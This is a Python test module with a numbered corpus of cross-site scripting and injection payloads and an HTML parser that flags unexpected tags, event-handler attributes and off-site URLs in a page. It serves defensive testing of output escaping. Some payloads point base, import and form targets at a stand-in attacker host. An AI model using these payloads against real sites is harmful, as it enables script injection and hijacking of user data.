"""A corpus of texts that a careless page would run, and what tells whether a page took one for markup."""

from __future__ import annotations

from html.parser import HTMLParser

#: Each carries a number, so that it is known which one got through.
CORPUS = tuple(
    text.replace("N", str(number))
    for number, text in enumerate(
        (
            "<script>top.hit='N'</script>",
            '"><script>top.hit="N"</script>',
            "'><img src=x onerror=top.hit='N'>",
            '" autofocus onfocus="top.hit=\'N\'" x="',
            "<svg/onload=top.hit='N'>",
            "javascript:top.hit='N'",
            "</title><script>top.hit='N'</script>",
            "</textarea></style></code><script>top.hit='N'</script>",
            "<iframe srcdoc=\"<script>top.hit='N'</script>\"></iframe>",
            "<a href=\"javascript:top.hit='N'\">N</a>",
            "<style>@import url(//evil.example/N)</style>",
            "<base href=//evil.example/N>",
            "<meta http-equiv=refresh content='0;url=javascript:top.hit=N'>",
            "<math><mtext><table><mglyph><style><img src=x onerror=top.hit='N'>",
            "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}",
            "<!--><script>top.hit='N'</script>-->",
            "\u202e<b>N</b>\u2066",
            "<form action=//evil.example/N><button>",
            "<details open ontoggle=top.hit='N'>",
            "`-top.hit='N'-`",
        )
    )
)
_WORDS = """
html head meta title link body a header div img nav form input button main ol li h1 h2 p section table thead tr th
tbody td span code br pre dl dt dd label time ul select option h3 datalist svg g rect
"""
_ELEMENTS = frozenset(_WORDS.split())


class Markup(HTMLParser):
    """What is wrong with a page: elements and attributes that no template of ours writes."""

    def __init__(self) -> None:
        super().__init__()
        self.wrong: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in _ELEMENTS:
            self.wrong.append(f"<{tag}>")
        for name, value in attrs:
            address = (value or "").strip().lower()
            if name.startswith("on") or name in {"style", "srcdoc"}:
                self.wrong.append(f"<{tag} {name}>")
            if name in {"href", "src", "action"} and not address.startswith("/console") and address != "#main":
                self.wrong.append(f"<{tag} {name}={value}>")
            if name == "http-equiv":
                self.wrong.append(f"<{tag} {name}>")

    def handle_comment(self, data: str) -> None:
        self.wrong.append(f"<!--{data}")


def wrong_in(text: str) -> list[str]:
    reader = Markup()
    reader.feed(text)
    reader.close()
    return reader.wrong
